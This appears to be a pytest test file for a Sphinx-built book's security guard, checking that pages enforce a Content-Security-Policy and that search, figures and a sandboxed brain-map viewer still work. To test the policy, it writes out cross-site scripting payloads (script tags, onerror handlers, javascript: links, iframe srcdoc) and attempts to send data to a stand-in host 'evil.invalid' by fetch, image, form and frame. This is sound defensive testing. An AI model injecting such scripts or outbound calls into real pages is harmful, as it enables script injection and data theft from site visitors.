"""A page runs the scripts of the book and no others, from a server and from disk, and all that it can do still works."""

import re

import light
import pytest
import security
from sphinx.errors import ExtensionError
from tests.serving import serving_folder

from eih.brain.map_viewer import MapViewer

BLANK = '<!doctype html><meta charset="utf-8"><title>as it was</title>'

# Notes what the policy refuses; a name that a page's script could hide is no matter here.
NOTE = """window.refused = []; addEventListener("securitypolicyviolation",
  (event) => window.refused.push(event.effectiveDirective));"""


def test_the_checksum_is_that_of_the_standard():
    """The standard's own example of a script has the checksum that it prints."""
    known = "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='"
    assert security.checksum("alert('Hello, world.');") == known


@pytest.mark.fault(
    "security",
    "an output of a chapter that contains a script, a script in an attribute, or a link that is one",
    "the book is not built: the page and the script are named",
)
@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<script type=module>alert(1)</script>",
        "<script>let toggleHintShow = 'Click to show'; alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href="java\nscript:alert(1)">here</a>',
        '<button onclick="window.print(); alert(1)">Print</button>',
    ],
)
def test_a_script_that_is_not_the_books_stops_the_build(markup):
    """A page with it is refused, whatever it calls itself."""
    with pytest.raises(ExtensionError, match=r"chapter\.html: a script stands .*alert\(1\)"):
        security.guard(BLANK + markup, "chapter.html")


def test_data_and_text_are_no_scripts():
    """What no browser runs needs no leave: data of a figure, and a page that speaks of scripts."""
    page = BLANK + '<script type="application/json">[1]</script><p>&lt;script&gt; onclick="x"</p>'
    assert "sha256" not in security.guard(page, "chapter.html")


def test_only_a_page_with_live_code_may_ask_another_host():
    """Binder and thebe stand in the policy of a page with the button, and in no other."""
    plain = security.guard(BLANK, "chapter.html")
    live = security.guard(BLANK + '<button class="eih-live" data-binder="x">', "chapter.html")
    assert "http" not in plain.replace("http-equiv", "")
    assert {*re.findall(r"\w+://[^ ;\"]+", live)} == {
        "https://unpkg.com/thebe@0.9.3/lib/",
        "https://mybinder.org",
        *(f"{way}://{hub}" for way in ("https", "wss") for hub in security.HUBS),
    }
    assert "unsafe" not in live.replace("'self' file: 'unsafe-inline'", "")


def test_the_policy_names_the_program_that_the_page_loads(root):
    """The address of thebe is that of the page's script, version included."""
    script = (root / "book" / "_static" / "live.js").read_text(encoding="utf-8")
    assert f'THEBE = "{security.THEBE}"' in script


# --- the built pages


@pytest.mark.pages
def test_every_page_allows_its_scripts_by_checksum_and_no_others(html):
    """No page lacks the policy, none allows any script inside it, and it comes before all scripts."""
    pages = [path for path in html.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 40
    for path in pages:
        text = path.read_text(encoding="utf-8")
        (policy,) = re.findall(
            '<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text
        )
        sources = dict(part.split(" ", 1) for part in policy.split("; "))
        assert sources["default-src"] == "'none'", path.name
        assert "unsafe" not in sources["script-src"], path.name
        assert "<script" not in text[: text.index("Content-Security-Policy")], path.name
        inside = re.findall(r"(?s)<script(?![^>]*\b(?:src|type)=)[^>]*>(.*?)</script>", text)
        allowed = set(re.findall("'sha256-[^']+'", sources["script-src"]))
        assert {security.checksum(script) for script in inside} == allowed, path.name


EVIL = {
    "script": "<script>document.title = 'evil'</script>",
    "handler": '<img src="data:," onerror="document.title = \'evil\'">',
    "file of another host": '<script src="https://evil.invalid/evil.js"></script>',
    "data as a script": "<script src=\"data:text/javascript,document.title = 'evil'\"></script>",
    "page in the page": "<iframe srcdoc=\"<script>parent.document.title = 'evil'</script>\"></iframe>",
}


@pytest.fixture
def show(site, browser):
    """Return a function that opens a page of the site with a text of one's own instead."""
    opened = []

    def goto(text, name="book/glossary.html"):
        page = browser.new_page()
        opened.append(page)
        page.route("https://evil.invalid/*", lambda route: route.fulfill(
            body="document.title = 'evil'", content_type="text/javascript"))  # fmt: skip
        page.route(f"**/{name}", lambda route: route.fulfill(body=text, content_type="text/html"))
        page.add_init_script(NOTE)
        page.goto(f"{site}/{name}", wait_until="networkidle")
        return page

    yield goto
    for page in opened:
        page.close()


@pytest.mark.fault(
    "security",
    "a script put into a built page: as an element, in an attribute, from another host, as data, in a frame",
    "the browser refuses it, by the page's Content-Security-Policy; without the policy it runs",
)
@pytest.mark.pages
@pytest.mark.parametrize("evil", EVIL.values(), ids=EVIL.keys())
def test_the_browser_refuses_a_script_that_slipped_into_a_page(html, show, evil):
    """The title stays, and the refusal is noted; the same page without its policy is at the script's mercy."""
    text = (html / "book" / "glossary.html").read_text(encoding="utf-8")
    title = re.search("<title>([^&<]*)", text)[1]
    guarded = show(text.replace("</article>", f"{evil}</article>"))
    assert guarded.title().startswith(title)
    refused = [name for frame in guarded.frames for name in frame.evaluate("window.refused")]
    assert {name[:10] for name in refused} == {"script-src"}
    bare = re.sub('<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert show(bare.replace("</article>", f"{evil}</article>")).title() == "evil"


@pytest.mark.pages
@pytest.mark.parametrize(
    ("directive", "does"),
    [
        ("connect-src", "fetch('https://evil.invalid/').catch(() => 0)"),
        ("img-src", "new Image().src = 'https://evil.invalid/x.png'"),
        ("base-uri", "document.head.append(Object.assign(document.createElement('base'), {href: '/x/'}))"),
        ("form-action", "(() => { const form = document.querySelector('form'); form.action = "
                        "'https://evil.invalid/'; form.submit(); })()"),
        ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), "
                      "{src: 'https://evil.invalid/'}))"),
    ],
)  # fmt: skip
def test_a_page_tells_no_other_host_anything(html, show, directive, does):
    """What would carry something out of a page, or bend its links, is refused."""
    page = show((html / "book" / "glossary.html").read_text(encoding="utf-8"))
    page.evaluate(does)
    page.wait_for_function("window.refused.length")
    assert page.evaluate("window.refused") == [directive]


@pytest.fixture(params=["served", "from disk"])
def reader(request, html, site, browser):
    """Open pages as a reader does, from a server or from disk; at the end, nothing was refused."""
    start = site if request.param == "served" else html.as_uri()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(10_000)
    page, errors = context.new_page(), []
    page.add_init_script(NOTE)
    page.on("pageerror", lambda error: errors.append(str(error)))

    def goto(name):
        page.goto(f"{start}/{name}", wait_until="networkidle")
        return page

    yield goto
    refused = page.evaluate("window.refused")
    context.close()
    assert refused == []
    # Chromium lets no page from disk read another, so the search shows titles there, without excerpts.
    assert set(errors) <= ({"Failed to fetch"} if request.param == "from disk" else set())


@pytest.mark.pages
@pytest.mark.parametrize("name", ["search.html", "genindex.html", "404.html", "index.html"])
def test_pages_outside_the_contents_are_let_run(reader, name):
    """Search, index, the page for what is not there, and the one that leads to the front page refuse nothing."""
    reader(name)


@pytest.mark.pages
def test_the_search_finds(reader):
    """A word in the search box of a page leads to the pages that have it."""
    page = reader("book/glossary.html")
    page.keyboard.press("Control+k")
    page.keyboard.type("naloxone")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=naloxone")
    page.get_by_text(re.compile("Search finished, found [1-9]")).wait_for()
    page.wait_for_load_state("networkidle")
    assert page.locator("#search-results li a").count() > 10


@pytest.mark.pages
def test_the_ledger_is_narrowed(reader):
    """Typed words leave those rows alone that have them."""
    page = reader("notebooks/ledger.html")
    rows = page.locator("tr[data-verdict]:visible")
    before = rows.count()
    page.locator("article input[type=search]").fill("naloxone")
    page.wait_for_function(
        "before => [...document.querySelectorAll('tr[data-verdict]')].filter(e => e.offsetParent).length < before",
        arg=before,
    )
    assert 0 < rows.count() < before


@pytest.mark.pages
def test_a_live_figure_is_drawn(reader):
    """The script of a figure reads its data and takes the place of the still picture."""
    page = reader("notebooks/design_and_data.html")
    assert page.locator("figure.eih-live select:visible").count() > 0


@pytest.mark.pages
def test_the_buttons_of_a_page_do_what_they_say(reader):
    """Light and dark, full screen, print, copy, and what is folded away."""
    page = reader("notebooks/heat_pain.html")
    root = "document.documentElement.dataset.theme"
    seen = set()
    for _ in range(3):
        page.locator("button.theme-switch-button:visible").click()
        seen.add(page.evaluate(root))
    assert seen == {"light", "dark"}
    page.locator("button.btn-fullscreen-button").click()
    page.wait_for_function("document.fullscreenElement")
    page.evaluate("document.exitFullscreen()")
    page.evaluate("window.print = () => { window.printed = true; }")
    page.locator("button.btn-download-pdf-button").dispatch_event("click")
    assert page.evaluate("window.printed")
    copy = page.locator("button.copybtn").first
    copy.dispatch_event("click")
    page.wait_for_function("document.querySelector('button.copybtn.success')")
    fold = page.locator("article details:visible").first
    was = fold.evaluate("fold => fold.open")
    fold.locator("summary").first.click()
    assert fold.evaluate("fold => fold.open") != was


VIEWED = f"""<canvas id="seen"></canvas><script>
document.getElementById("seen").dataset.drawn = 1;
try {{ parent.document.title = "evil"; }} catch {{ document.getElementById("seen").dataset.kept = 1; }}
</script>{"<!-- -->" * 200}"""


@pytest.mark.fault(
    "security",
    "an interactive viewer of a map that reaches for the page around it",
    "it cannot: it runs in a box of its own, with a policy of its own",
)
@pytest.mark.parametrize("way", ["served", "from disk"])
def test_a_viewer_runs_in_a_box_of_its_own(root, browser, tmp_path, way):
    """Its script runs once the button is pressed, and cannot change the page."""
    shown = MapViewer(BLANK + VIEWED, "a map")._repr_html_()
    page = _page_with_viewer(root, tmp_path, shown)
    tab = _press(browser, tmp_path, page, way)
    seen = tab.frame_locator("iframe[title='a map']").locator("#seen")
    seen.wait_for(state="attached")
    assert seen.evaluate("seen => ({...seen.dataset})") == {"drawn": "1", "kept": "1"}
    assert tab.title() == "as it was"
    tab.close()


@pytest.mark.parametrize("way", ["served", "from disk"])
def test_the_viewer_of_a_map_draws(root, browser, tmp_path, way):
    """The real viewer refuses nothing of itself, and its slices are drawn."""
    import nibabel
    import numpy as np

    from eih.brain.map_viewer import view_map

    values = np.zeros((20, 20, 20), dtype="float32")
    values[8:12, 8:12, 8:12] = 5
    affine = np.array([[8, 0, 0, -80], [0, 8, 0, -80], [0, 0, 8, -80], [0, 0, 0, 1]])
    image = nibabel.Nifti1Image(values, affine)
    shown = view_map(image, 3, "a map")._repr_html_()
    tab = _press(browser, tmp_path, _page_with_viewer(root, tmp_path, shown), way)
    canvas = tab.frame_locator("iframe").locator("canvas").first
    canvas.wait_for()
    (frame,) = tab.frames[1:]
    frame.wait_for_function("document.querySelector('canvas').width > 300")
    assert frame.evaluate("window.refused") == []
    tab.close()


def _page_with_viewer(root, folder, shown):
    """Write a page of a book with a viewer in it, as the build does."""
    store = light.Store(folder)
    script = (root / "book" / "_static" / "press.js").read_text(encoding="utf-8")
    store.write("press.js", script.encode("utf-8"))
    lightened = light.lighten(f'{BLANK}<script src="press.js"></script>{shown}', "", store)
    for path in folder.rglob("viewer-*.html"):
        viewer = security.guard(path.read_text(encoding="utf-8"), path.name, viewer=True)
        path.write_text(viewer, encoding="utf-8")
    return security.guard(lightened, "page.html")


def _press(browser, folder, text, way):
    """Open the page and press the button of its viewer."""
    (folder / "page.html").write_text(text, encoding="utf-8")
    tab = browser.new_page()
    tab.add_init_script(NOTE)
    if way == "from disk":
        tab.goto((folder / "page.html").as_uri())
        tab.get_by_role("button", name="Open the interactive viewer: a map").click()
    else:
        with serving_folder(folder) as server:
            tab.goto(f"{server.url}/page.html")
            tab.get_by_role("button", name="Open the interactive viewer: a map").click()
            tab.wait_for_load_state("networkidle")
    return tab
